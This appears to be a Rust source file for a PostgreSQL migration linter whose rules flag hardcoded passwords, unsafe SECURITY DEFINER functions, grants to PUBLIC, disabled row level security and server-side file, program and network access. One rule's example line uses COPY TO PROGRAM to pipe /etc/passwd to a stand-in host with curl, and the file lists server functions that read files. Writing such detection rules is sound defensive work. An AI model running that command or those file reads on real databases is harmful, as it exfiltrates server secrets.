//! Security: secrets written into migrations, functions that run with their owner's
//! rights without a safe search_path, privileges for everyone, policies switched off.

use super::{alter_table, Ctx, MigrationState};
use crate::model::{Finding, Rule, Severity};
use crate::sql::ast::{bool_arg, def_elems, nodes, string_arg};
use crate::sql::names;
use pg_query::protobuf::{AlterTableType, Node, RoleSpecType};
use pg_query::NodeEnum;

const CATEGORY: &str = "Security";

pub static PLAINTEXT_PASSWORD: Rule = Rule {
    id: "plaintext-password",
    severity: Severity::Error,
    on: true,
    category: CATEGORY,
    summary: "CREATE/ALTER ROLE … PASSWORD '…' with the password written in the migration.",
    why: "The secret is now in git history, in every clone and CI log, forever.",
    fix: "Use a placeholder filled from a secret (`PASSWORD :'app_password'` with `--var app_password=…`), or set passwords outside migrations.",
    bad: "CREATE ROLE app LOGIN PASSWORD 'hunter2';",
    good: "CREATE ROLE app LOGIN PASSWORD :'app_password';",
};

pub static SECURITY_DEFINER_SEARCH_PATH: Rule = Rule {
    id: "security-definer-search-path",
    severity: Severity::Error,
    on: true,
    category: CATEGORY,
    summary: "A SECURITY DEFINER function without SET search_path.",
    why: "The function runs with its owner's rights but resolves names through the caller's search_path: any user who can create objects can hijack it.",
    fix: "Add `SET search_path = pg_catalog, pg_temp` to the function and schema-qualify the objects it uses.",
    bad: "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ DELETE FROM sessions $$;",
    good: "CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ DELETE FROM public.sessions $$;",
};

pub static GRANT_TO_PUBLIC: Rule = Rule {
    id: "grant-to-public",
    severity: Severity::Warning,
    on: true,
    category: CATEGORY,
    summary: "GRANT … TO PUBLIC.",
    why: "Every role, including ones created later, gets the privilege.",
    fix: "Grant to the specific roles that need it.",
    bad: "GRANT SELECT ON customers TO PUBLIC;",
    good: "GRANT SELECT ON customers TO reporting;",
};

pub static DISABLE_ROW_LEVEL_SECURITY: Rule = Rule {
    id: "disable-row-level-security",
    severity: Severity::Warning,
    on: true,
    category: CATEGORY,
    summary: "ALTER TABLE … DISABLE ROW LEVEL SECURITY.",
    why: "Every policy on the table stops applying: tenants can read each other's rows.",
    fix: "Keep RLS enabled and change the policies instead.",
    bad: "ALTER TABLE documents DISABLE ROW LEVEL SECURITY;",
    good: "ALTER POLICY documents_tenant ON documents USING (tenant_id = current_setting('app.tenant')::bigint);",
};

pub static SERVER_SIDE_ACCESS: Rule = Rule {
    id: "server-side-access",
    severity: Severity::Error,
    on: true,
    category: CATEGORY,
    summary: "A migration runs programs or reads and writes files on the database server, loads untrusted code, changes the server's configuration, connects to other servers, or hands out those powers.",
    why: "Migrations run with the deploy role's rights. `COPY … PROGRAM`, `pg_read_file`, `lo_import`/`lo_export`, untrusted languages (plpython3u, plperlu, C), `LOAD`, `ALTER SYSTEM`, dblink and foreign servers reach past the database to the server's files, processes and configuration or to other hosts; granting superuser or `pg_execute_server_program` hands that on. From a pull request this is how a migration reads secrets or takes over a server, and in review it is easy to miss.",
    fix: "Do it outside migrations, in an operations job with its own audited credentials. When a migration really needs it (an extension the team vetted), say so above the statement: `-- sqlgate:ignore server-side-access -- <why it is safe>`.",
    bad: "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd https://example.com';",
    good: "COPY staging_import FROM STDIN;  -- data sent by the client, not read on the server",
};

/// Functions that reach the server's files or processes, or other servers.
const SERVER_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "lo_import",
    "lo_export",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "pg_file_sync",
    "pg_logdir_ls",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "dblink_open",
    "pg_reload_conf",
];

/// Extensions that reach past the database (files, programs, other servers) or
/// bring an untrusted language.
const SERVER_EXTENSIONS: &[&str] = &[
    "dblink",
    "postgres_fdw",
    "file_fdw",
    "adminpack",
    "plpython3u",
    "plpythonu",
    "plpython2u",
    "plperlu",
    "pltclu",
    "plsh",
    "pg_execute_server_program",
];

/// Languages whose code runs with the server's operating-system rights.
const UNTRUSTED_LANGUAGES: &[&str] = &[
    "plpython3u",
    "plpythonu",
    "plpython2u",
    "plperlu",
    "pltclu",
    "plsh",
    "c",
    "internal",
];

/// Roles whose members run programs or read and write the server's files.
const SERVER_ROLES: &[&str] = &[
    "pg_execute_server_program",
    "pg_read_server_files",
    "pg_write_server_files",
];

/// Server-side access inside a function or DO body (text sqlgate does not parse).
fn body_access(body: &str) -> Option<String> {
    static RE: std::sync::OnceLock<Option<regex::Regex>> = std::sync::OnceLock::new();
    let re = RE
        .get_or_init(|| {
            regex::Regex::new(&format!(
                r"(?i)\b({})\s*\(|\b(?:to|from)\s+program\b|\bcopy\b[^;]*\b(?:to|from)\s+'|\balter\s+system\b",
                SERVER_FUNCTIONS.join("|")
            ))
            .ok()
        })
        .as_ref()?;
    re.find(body).map(|m| m.as_str().trim().to_string())
}

fn server_access(cx: &Ctx, out: &mut Vec<Finding>, what: String) {
    cx.push(out, &SERVER_SIDE_ACCESS, -1, what, None);
}

/// `server-side-access`: what reaches past the database.
fn server_side(cx: &Ctx, out: &mut Vec<Finding>) {
    let node = cx.node();
    match node {
        NodeEnum::CopyStmt(c) if c.is_program => {
            return server_access(cx, out, format!(
                "COPY … {} PROGRAM runs a shell command on the database server as its operating-system user",
                if c.is_from { "FROM" } else { "TO" }
            ));
        }
        NodeEnum::CopyStmt(c) if !c.filename.is_empty() => {
            return server_access(
                cx,
                out,
                format!(
                    "COPY … {} '{}' {} a file on the database server",
                    if c.is_from { "FROM" } else { "TO" },
                    c.filename,
                    if c.is_from { "reads" } else { "writes" }
                ),
            );
        }
        NodeEnum::CreateEventTrigStmt(t) => {
            return server_access(cx, out, format!(
                "CREATE EVENT TRIGGER {} runs its function on every matching command of every role in the database, with the rights of whoever runs it",
                names::ident(&t.trigname)
            ));
        }
        NodeEnum::AlterDatabaseSetStmt(a) => {
            if let Some(name) = preload(a.setstmt.as_ref()) {
                return server_access(cx, out, format!(
                    "ALTER DATABASE {} SET {name} makes every new session of the database load a shared library into the server process",
                    names::ident(&a.dbname)
                ));
            }
        }
        NodeEnum::AlterRoleSetStmt(a) => {
            if let Some(name) = preload(a.setstmt.as_ref()) {
                return server_access(cx, out, format!(
                    "ALTER ROLE … SET {name} makes the role's sessions load a shared library into the server process"
                ));
            }
        }
        NodeEnum::VariableSetStmt(v)
            if PRELOAD_SETTINGS.contains(&v.name.to_lowercase().as_str()) =>
        {
            return server_access(
                cx,
                out,
                format!(
                    "SET {} loads shared libraries into the server process",
                    v.name.to_lowercase()
                ),
            );
        }
        NodeEnum::AlterSystemStmt(_) => {
            return server_access(
                cx,
                out,
                "ALTER SYSTEM changes the server's configuration file (postgresql.auto.conf)"
                    .into(),
            );
        }
        NodeEnum::LoadStmt(l) => {
            return server_access(
                cx,
                out,
                format!(
                    "LOAD '{}' loads a shared library into the server process",
                    l.filename
                ),
            );
        }
        NodeEnum::CreateExtensionStmt(e) if SERVER_EXTENSIONS.contains(&e.extname.as_str()) => {
            return server_access(cx, out, format!(
                "CREATE EXTENSION {} reaches past the database (other servers, files or an untrusted language)",
                names::ident(&e.extname)
            ));
        }
        NodeEnum::CreatePlangStmt(l) => {
            return server_access(
                cx,
                out,
                format!(
                    "CREATE LANGUAGE {} installs a procedural language{}",
                    names::ident(&l.plname),
                    if l.pltrusted {
                        ""
                    } else {
                        " whose code runs with the server's operating-system rights"
                    }
                ),
            );
        }
        NodeEnum::CreateFdwStmt(_)
        | NodeEnum::CreateForeignServerStmt(_)
        | NodeEnum::CreateUserMappingStmt(_)
        | NodeEnum::ImportForeignSchemaStmt(_) => {
            return server_access(
                cx,
                out,
                "foreign data wrappers, servers and user mappings connect this database to other servers".into(),
            );
        }
        NodeEnum::CreateFunctionStmt(f) => {
            let language = crate::sql::ast::language(&f.options).unwrap_or_default();
            let name = names::strings(&f.funcname).join(".");
            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
                return server_access(cx, out, format!(
                    "function {name} is written in {language}, which runs with the server's operating-system rights"
                ));
            }
            let body = def_elems(&f.options)
                .filter(|d| d.defname == "as")
                .flat_map(crate::sql::ast::strings_of)
                .find_map(|b| body_access(&b));
            if let Some(found) = body {
                return server_access(
                    cx,
                    out,
                    format!("function {name} reaches past the database: its body uses `{found}`"),
                );
            }
        }
        NodeEnum::DoStmt(d) => {
            let language = crate::sql::ast::language(&d.args).unwrap_or_else(|| "plpgsql".into());
            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
                return server_access(
                    cx,
                    out,
                    format!(
                        "a DO block in {language} runs with the server's operating-system rights"
                    ),
                );
            }
            let body = def_elems(&d.args)
                .filter(|a| a.defname == "as")
                .filter_map(string_arg)
                .find_map(body_access);
            if let Some(found) = body {
                return server_access(
                    cx,
                    out,
                    format!("a DO block reaches past the database: it uses `{found}`"),
                );
            }
        }
        NodeEnum::GrantRoleStmt(g) if g.is_grant => {
            let granted: Vec<String> = nodes(&g.granted_roles)
                .filter_map(|n| match n {
                    NodeEnum::AccessPriv(p) => Some(p.priv_name.clone()),
                    _ => None,
                })
                .filter(|r| SERVER_ROLES.contains(&r.as_str()))
                .collect();
            if !granted.is_empty() {
                return server_access(cx, out, format!(
                    "GRANT {} hands out running programs or reading and writing files on the server",
                    granted.join(", ")
                ));
            }
        }
        NodeEnum::CreateRoleStmt(r) if grants_superuser(&r.options) => {
            return server_access(
                cx,
                out,
                format!("role {} is created as a superuser", names::ident(&r.role)),
            );
        }
        NodeEnum::AlterRoleStmt(r) if grants_superuser(&r.options) => {
            let role = r
                .role
                .as_ref()
                .map(|s| s.rolename.clone())
                .unwrap_or_default();
            return server_access(
                cx,
                out,
                format!("role {} is made a superuser", names::ident(&role)),
            );
        }
        _ => {}
    }
    // Functions anywhere in the statement: SELECT pg_read_file(…), lo_export(…), dblink(…).
    for (n, ..) in node.nodes() {
        if let pg_query::NodeRef::FuncCall(f) = n {
            let name = names::strings(&f.funcname)
                .last()
                .cloned()
                .unwrap_or_default()
                .to_lowercase();
            if SERVER_FUNCTIONS.contains(&name.as_str()) {
                return server_access(cx, out, format!(
                    "{name}() reaches past the database: the server's files or processes, or another server"
                ));
            }
        }
    }
    // Calls the parse-tree walk does not reach (inside PREPARE, a column default, a
    // VALUES list): by the statement's tokens.
    if let Some((name, _)) = crate::sql::dynamic::calls(cx.text(), SERVER_FUNCTIONS)
        .into_iter()
        .next()
    {
        server_access(
            cx,
            out,
            format!(
            "{name}() reaches past the database: the server's files or processes, or another server"
        ),
        );
    }
}

/// Settings that load shared libraries (or choose where they come from).
const PRELOAD_SETTINGS: &[&str] = &[
    "session_preload_libraries",
    "local_preload_libraries",
    "shared_preload_libraries",
    "dynamic_library_path",
    "jit_provider",
];

fn preload(set: Option<&pg_query::protobuf::VariableSetStmt>) -> Option<String> {
    let name = set?.name.to_lowercase();
    PRELOAD_SETTINGS.contains(&name.as_str()).then_some(name)
}

fn grants_superuser(options: &[pg_query::protobuf::Node]) -> bool {
    def_elems(options).any(|d| d.defname == "superuser" && bool_arg(d))
}

pub fn check(cx: &Ctx, _: &mut MigrationState, out: &mut Vec<Finding>) {
    server_side(cx, out);
    match cx.node() {
        NodeEnum::CreateRoleStmt(r) => password(cx, &r.options, &r.role, out),
        NodeEnum::AlterRoleStmt(r) => {
            let role = r
                .role
                .as_ref()
                .map(|s| s.rolename.clone())
                .unwrap_or_default();
            password(cx, &r.options, &role, out);
        }
        NodeEnum::CreateFunctionStmt(f) => {
            let definer = def_elems(&f.options).any(|d| d.defname == "security" && bool_arg(d));
            let sets_path = def_elems(&f.options).any(|d| {
                d.defname == "set"
                    && matches!(
                        d.arg.as_ref().and_then(|a| a.node.as_ref()),
                        Some(NodeEnum::VariableSetStmt(v)) if v.name == "search_path"
                    )
            });
            if definer && !sets_path {
                let name = names::strings(&f.funcname).join(".");
                cx.push(
                    out,
                    &SECURITY_DEFINER_SEARCH_PATH,
                    -1,
                    format!(
                        "SECURITY DEFINER function {name} does not set search_path: callers can make it run their objects with its owner's rights"
                    ),
                    Some(format!(
                        "Add `SET search_path = pg_catalog, pg_temp` to {name} and schema-qualify what it uses."
                    )),
                );
            }
        }
        NodeEnum::AlterFunctionStmt(f) => {
            let definer = def_elems(&f.actions).any(|d| d.defname == "security" && bool_arg(d));
            let sets_path = def_elems(&f.actions).any(|d| d.defname == "set");
            if definer && !sets_path {
                cx.push(
                    out,
                    &SECURITY_DEFINER_SEARCH_PATH,
                    -1,
                    "ALTER FUNCTION … SECURITY DEFINER without SET search_path".into(),
                    None,
                );
            }
        }
        NodeEnum::GrantStmt(g) if g.is_grant => {
            let public = nodes(&g.grantees).any(|n| {
                matches!(n, NodeEnum::RoleSpec(r) if r.roletype == RoleSpecType::RolespecPublic as i32)
            });
            if public {
                cx.push(
                    out,
                    &GRANT_TO_PUBLIC,
                    -1,
                    "GRANT … TO PUBLIC gives the privilege to every role, present and future"
                        .into(),
                    None,
                );
            }
        }
        node => {
            let Some(a) = alter_table(node).filter(|a| cx.existing(&a.table)) else {
                return;
            };
            for (_, kind, _) in &a.cmds {
                if *kind == AlterTableType::AtDisableRowSecurity {
                    cx.push(
                        out,
                        &DISABLE_ROW_LEVEL_SECURITY,
                        a.rv.location,
                        format!(
                            "row level security is disabled on {}: its policies stop applying",
                            names::show(&a.table)
                        ),
                        None,
                    );
                }
            }
        }
    }
}

fn password(cx: &Ctx, options: &[Node], role: &str, out: &mut Vec<Finding>) {
    for d in def_elems(options).filter(|d| d.defname == "password") {
        let Some(pw) = string_arg(d) else { continue };
        let hashed = pw.starts_with("SCRAM-SHA-256$") || (pw.len() == 35 && pw.starts_with("md5"));
        // Written in the file (not substituted from a placeholder)?
        let literal = format!("'{}'", pw.replace('\'', "''"));
        if !hashed && cx.text().contains(&literal) {
            cx.push(
                out,
                &PLAINTEXT_PASSWORD,
                d.location,
                format!(
                    "the password of role {} is written in the migration, so it is in git history",
                    names::ident(role)
                ),
                Some(format!(
                    "Use a placeholder filled from a secret: `PASSWORD :'{role}_password'` with `--var {role}_password=…` (or set the password outside migrations)."
                )),
            );
        }
    }
}
